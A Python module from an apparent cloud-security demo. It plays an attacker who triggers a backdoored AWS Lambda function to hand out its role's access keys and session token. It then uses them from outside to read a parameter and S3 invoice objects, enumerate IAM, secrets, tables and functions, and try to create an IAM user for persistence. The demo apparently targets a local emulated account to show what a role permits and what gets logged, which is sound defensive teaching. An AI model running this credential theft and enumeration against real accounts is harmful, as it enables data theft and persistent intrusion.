"""What the attacker does with the credentials of the function's role, from a machine that is none of Lambda's."""

import json
from collections.abc import Callable
from dataclasses import dataclass

from botocore.exceptions import ClientError

from demo import Unexpected, victim
from demo.attacker import ADDRESS, AGENT
from demo.local_account import LocalAccount, Person

USER = "support-2"


@dataclass(frozen=True)
class Use:
    """One call with the stolen credentials, and whether the role may make it."""

    name: str
    do: Callable[[], dict]
    allowed: bool
    is_on_data: bool = False  # then it is in a trail's files only


def take(account: LocalAccount, thief: Person) -> Person:
    """Asks the function with the word that its new code knows."""
    reply = account.client("lambda", thief).invoke(FunctionName=victim.NAME, Payload=json.dumps({"health": "full"}))
    answer = json.loads(reply["Payload"].read())
    try:
        return Person("the function's role", answer["AWS_ACCESS_KEY_ID"], answer["AWS_SECRET_ACCESS_KEY"],
                      answer["AWS_SESSION_TOKEN"], ADDRESS, AGENT)
    except (KeyError, TypeError):
        raise Unexpected(f"the attacker's code did not hand out its keys but answered: {sorted(answer)}") from None


def uses(account: LocalAccount, role: Person, bucket: str) -> list[Use]:
    sts, ssm, s3, iam, secrets, tables, functions = (account.client(name, role) for name in (
        "sts", "ssm", "s3", "iam", "secretsmanager", "dynamodb", "lambda"))
    return [
        Use("sts:GetCallerIdentity", sts.get_caller_identity, True),
        Use("ssm:GetParameter", lambda: ssm.get_parameter(Name=victim.PARAMETER), True),
        Use("s3:ListObjects", lambda: s3.list_objects(Bucket=bucket), True, is_on_data=True),
        *(Use("s3:GetObject", lambda number=number: s3.get_object(Bucket=bucket, Key=f"{number}.json"), True,
              is_on_data=True) for number in victim.INVOICES),
        Use("s3:ListBuckets", s3.list_buckets, False),
        Use("iam:ListUsers", iam.list_users, False),
        Use("iam:ListRoles", iam.list_roles, False),
        Use("secretsmanager:ListSecrets", secrets.list_secrets, False),
        Use("dynamodb:ListTables", tables.list_tables, False),
        Use("lambda:ListFunctions", functions.list_functions, False),
        # A user of its own would outlive the session.
        Use("iam:CreateUser", lambda: iam.create_user(UserName=USER), False),
    ]


def make(use: Use) -> None:
    """Makes the call; what the role's policies do not say of it ends the demo."""
    try:
        use.do()
        error = None
    except ClientError as answer:
        error = answer.response["Error"]["Code"]
    if use.allowed == bool(error):
        raise Unexpected(f"{use.name} with the stolen credentials: {error or 'allowed, where a refusal was expected'}")
